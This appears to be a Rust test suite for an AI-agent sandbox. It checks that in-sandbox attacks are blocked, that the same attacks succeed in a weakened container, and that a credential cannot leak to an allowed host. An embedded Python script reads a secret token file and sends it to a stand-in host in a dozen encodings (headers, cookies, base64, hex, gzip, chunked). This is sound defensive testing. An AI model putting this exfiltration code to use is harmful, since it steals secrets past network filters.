//! Attacks on the running sandbox from inside, and the same list against a weak container, which has to fail.
#![allow(clippy::unwrap_used, reason = "a test says by a panic what is wrong")]

mod support;

use std::collections::BTreeMap;
use std::io::Write as _;
use std::process::{Command, Stdio};
use std::time::Duration;

use support::neighbour::Neighbour;
use support::{Home, Project, docker, eventually, text};

const PROGRAM: &str = include_str!("attacks/attack.py");
const MANIFEST: &str = "image: agent
network: { allow: [api.example.com] }
credentials:
  token: { provider: store }
resources: { cpus: 2, memory: 1GiB, pids: 200 }
";

/// Outcome and what was seen, by the attack's name.
fn read(output: &[u8]) -> BTreeMap<String, (String, String)> {
    let text = String::from_utf8_lossy(output);
    let rows = text.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
    let field = |row: &serde_json::Value, name: &str| row[name].as_str().unwrap().to_owned();
    rows.map(|row| (field(&row, "name"), (field(&row, "outcome"), field(&row, "seen")))).collect()
}

#[test]
fn every_attack_from_inside_is_held_and_the_list_bites_a_weak_container() {
    let home = Home::new();
    let project = Project::new(&home, "attacked", MANIFEST);
    let set =
        home.sandbox().args(["credential", "set", "token", project.name()]).write_stdin("value").output().unwrap();
    assert!(set.status.success(), "{}", String::from_utf8_lossy(&set.stderr));
    let up = home.sandbox().args(["up", project.name(), "--detach", "--", "sleep", "600"]).output().unwrap();
    assert!(up.status.success(), "{}", String::from_utf8_lossy(&up.stderr));
    let attacked =
        home.sandbox().args(["exec", project.name(), "--", "python3", "-"]).write_stdin(PROGRAM).output().unwrap();
    let strong = read(&attacked.stdout);
    let got_through: Vec<_> = strong.iter().filter(|(_, (outcome, _))| outcome != "held").collect();
    assert!(got_through.is_empty(), "{got_through:#?}");
    assert!(strong.len() >= 80, "{} attacks: {}", strong.len(), String::from_utf8_lossy(&attacked.stderr));

    // The supervisor writes down what the gateway decides, in its own time.
    let recorded = |host: &str| {
        let log = home.sandbox().args(["audit", "log", "--format", "json"]).output().unwrap();
        let log = String::from_utf8_lossy(&log.stdout).into_owned();
        log.contains("network.denied") && log.contains(host)
    };
    for host in ["example.com", "169.254.169.254", "127.0.0.1"] {
        eventually(&format!("a record of the denial of {host}"), Duration::from_secs(20), || recorded(host));
    }

    let agent = format!("sandbox-{}.main-agent", project.name());
    let image = support::docker(&["inspect", "--format", "{{.Image}}", &agent]);
    let image = String::from_utf8_lossy(&image.stdout).trim().to_owned();
    let mut weak = Command::new("docker")
        .args([
            "run",
            "--rm",
            "-i",
            "--user",
            "0",
            "--security-opt",
            "seccomp=unconfined",
            "--security-opt",
            "systempaths=unconfined",
            "--pids-limit",
            "400",
            "--memory",
            "1g",
        ])
        .args([&image, "python3", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    // Attacks that would do harm where nothing holds them are left out of the weak container.
    let careful = PROGRAM.replace(
        "for name, attack in ATTACKS.items():",
        "for name, attack in ((n, a) for n, a in ATTACKS.items() if n.split(':')[0] not in ('proxy', 'dns', 'limit') \
         and n not in ('kernel: core handler', 'kernel: sysrq', 'kernel: sysctl', 'kernel: control groups', \
         'syscall: reboot', 'syscall: settimeofday', 'syscall: pivot_root', 'syscall: acct', 'syscall: swapon', \
         'syscall: chroot', 'syscall: kexec_load')):",
    );
    weak.stdin.take().unwrap().write_all(careful.as_bytes()).unwrap();
    let weak = read(&weak.wait_with_output().unwrap().stdout);
    let bitten = weak.values().filter(|(outcome, _)| outcome != "held").count();
    assert!(bitten >= 30, "only {bitten} of {} attacks bite a weak container: {weak:#?}", weak.len());
}

/// A host that answers everything, and keeps what it was asked.
const KEEPER: &str = r#"
import http.server, ssl
class Keeper(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_POST(self):
        with open("/dev/shm/requests", "ab") as requests:
            requests.write(("%s %s\n%s" % (self.command, self.path, self.headers)).encode())
            requests.flush()
            if self.headers.get("Transfer-Encoding") == "chunked":
                while size := int(self.rfile.readline() or b"0", 16):
                    requests.write(self.rfile.read(size)); self.rfile.readline()
            else:
                requests.write(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
            requests.write(b"\n\n")
        self.send_response(200); self.send_header("Content-Length", "2")
        self.end_headers(); self.wfile.write(b"ok")
    do_GET = do_POST
server = http.server.ThreadingHTTPServer(("", 443), Keeper)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("/tls/certificate.pem", "/tls/key.pem")
server.socket = context.wrap_socket(server.socket, server_side=True)
print("serving", flush=True)
server.serve_forever()
"#;

/// Sends the credential file to an allowed host in every way that a simple thief knows; prints the status of each.
const THIEF: &str = r#"
import base64, gzip, http.client, ssl, urllib.parse
value = open("/run/secrets/token", "rb").read().strip()
context = ssl.create_default_context()
def ask(method, path, body=None, headers={}, encode_chunked=False):
    connection = http.client.HTTPSConnection("keeper.example", 443, context=context, timeout=20)
    try:
        connection.request(method, path, body=body, headers=headers, encode_chunked=encode_chunked)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException) as error:
        return type(error).__name__
text = value.decode()
quoted = urllib.parse.quote(base64.b64encode(b"x" + value).decode(), safe="")
print("control", ask("POST", "/control", b"nothing of worth"))
print("path", ask("GET", "/" + text))
print("query", ask("GET", "/?q=" + quoted))
print("header", ask("GET", "/", headers={"X-Note": value.hex()}))
print("cookie", ask("GET", "/", headers={"Cookie": "a=" + text}))
print("body", ask("POST", "/", b"{\"text\": \"" + value + b"\"}"))
print("base64", ask("POST", "/", base64.b64encode(b"ab" + value + b"cd")))
print("base64url", ask("POST", "/", base64.urlsafe_b64encode(value).rstrip(b"=")))
print("hexadecimal", ask("POST", "/", value.hex().upper().encode()))
print("percent", ask("POST", "/", "".join("%%%02x" % byte for byte in value).encode()))
print("gzip", ask("POST", "/", gzip.compress(value), {"Content-Encoding": "gzip"}))
print("chunks", ask("POST", "/", (bytes([byte]) for byte in value), {"Transfer-Encoding": "chunked"}, True))
"#;

#[test]
fn a_credential_does_not_leave_in_a_request_to_an_allowed_host_that_it_is_not_for() {
    let home = Home::new();
    let neighbour = Neighbour::network(&home, &["keeper.example"]);
    let authorities = home.path().join("company.pem");
    std::fs::write(&authorities, &neighbour.certificate).unwrap();
    let configuration = home.path().join("config/sandbox/config.yaml");
    std::fs::create_dir_all(configuration.parent().unwrap()).unwrap();
    std::fs::write(configuration, format!("network: {{ authorities: {} }}\n", authorities.display())).unwrap();
    let manifest = format!(
        "image: agent\nnetwork:\n  allow:\n    - {{ host: keeper.example, rules: [\"* /**\"], allow_private: {} }}\n\
         credentials:\n  token: {{ provider: store, hosts: [own.example] }}\n",
        neighbour.subnet
    );
    let project = Project::new(&home, "thief", &manifest);
    let canary = "canary+value/5b0e7f1c93d24a86";
    let set = home.sandbox().args(["credential", "set", "token", project.name()]).write_stdin(canary).output().unwrap();
    assert!(set.status.success(), "{}", text(&set.stderr));
    let up = home.sandbox().args(["up", project.name(), "--detach", "--", "sleep", "600"]).output().unwrap();
    assert!(up.status.success(), "{}", text(&up.stderr));
    let container = |role: &str| format!("sandbox-{}.main-{role}", project.name());
    let image = text(&docker(&["inspect", "--format", "{{.Image}}", &container("agent")]).stdout);
    neighbour.serve(image.trim(), &container("gateway"), KEEPER);
    let ran = home.sandbox().args(["exec", project.name(), "--", "python3", "-"]).write_stdin(THIEF).output().unwrap();
    let said = text(&ran.stdout);
    let ways: Vec<_> = said.lines().collect();
    assert_eq!(ways.first(), Some(&"control 200"), "{said}{}", text(&ran.stderr));
    assert_eq!(ways.len(), 12, "{said}{}", text(&ran.stderr));
    // A client that is still sending when it is refused may see the end of the connection before the answer.
    let held = |way: &&str| way.ends_with(" 403") || way.ends_with("Error") || way.ends_with("Disconnected");
    let through: Vec<_> = ways[1..].iter().filter(|way| !held(way)).collect();
    assert!(through.is_empty(), "{through:?}");
    let kept = text(&docker(&["exec", &neighbour.name, "cat", "/dev/shm/requests"]).stdout).to_lowercase();
    assert!(kept.contains("nothing of worth"), "{kept}");
    for part in
        [canary, "canary+value/5b0e7f", "Y2FuYXJ5K3Zhb", "63616e6172792b76616c", "%63%61%6e%61%72%79%2b%76%61%6c%75"]
    {
        assert!(!kept.contains(&part.to_lowercase()), "{part}: {kept}");
    }
    let leaks = || {
        let log = home.sandbox().args(["audit", "log", "--format", "json"]).output().unwrap();
        let log = text(&log.stdout);
        assert!(!log.contains(canary), "the value is in the log");
        let records: Vec<serde_json::Value> = serde_json::from_str(&log).unwrap();
        let named = |record: &&serde_json::Value| {
            let facts = &record["event"]["facts"];
            facts["reason"] == "leak" && facts["credential"] == "token" && facts["host"] == "keeper.example"
        };
        records.iter().filter(named).count()
    };
    eventually("the record of each refusal", Duration::from_secs(20), || leaks() == 11);
}
